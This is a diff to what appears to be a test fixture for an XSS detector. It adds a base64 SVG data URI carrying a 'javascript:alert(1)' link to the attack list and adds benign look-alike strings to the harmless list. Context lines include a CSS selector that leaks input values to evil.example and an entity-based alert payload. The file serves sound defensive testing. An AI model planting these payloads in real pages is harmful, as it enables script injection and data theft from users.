@@ -163,6 +163,7 @@ export const attacks: readonly string[] = [
   ' data: , <x>',
   '<br size="&{alert(1)}">',
   '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
+  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBoOXY5eiIvPjxhIGhyZWY9ImphdmFzY3JpcHQ6YWxlcnQoMSkiPng8L2E+PC9zdmc+',
 ]
 
 export const harmless: readonly string[] = [
@@ -288,6 +289,14 @@ export const harmless: readonly string[] = [
   '<@U12345> deployed <#C1|general>',
   '(ﾟДﾟ) nani',
   '<style>input[type=text]{background:url(/a.png)}</style>',
+  'The address (window.location.href) of the page that the user is on',
+  '<meta http-equiv=\\"Content-Type\\" content=\\"text/html; charset=UTF-8\\">',
+  '<link rel=\\"icon\\" href=\\"/icon.png\\">',
+  '<meta http-equiv=3DContent-Type content=3D"text/html; =\ncharset=3Diso-8859-1">',
+  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9IjAgMCA5IDkiPjxwYXRoIGQ9Ik0wIDBoOXY5eiIgZmlsbD0iI2MwMCIvPjwvc3ZnPg==',
+  '![badge](https://badges.example/x?label=A&icon=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9IjAgMCA5IDkiPjxwYXRoIGQ9Ik0wIDBoOXY5eiIgZmlsbD0iI2MwMCIvPjwvc3ZnPg==)',
+  'See the [`WebSocket` constructor](https://example.com/ws.md#server) for what is passed.',
+  '<style type=\\"text/css\\">@media only screen {.c{width:100%!important}}</style>',
 ]
 
 /** What a hostile text repeats. */
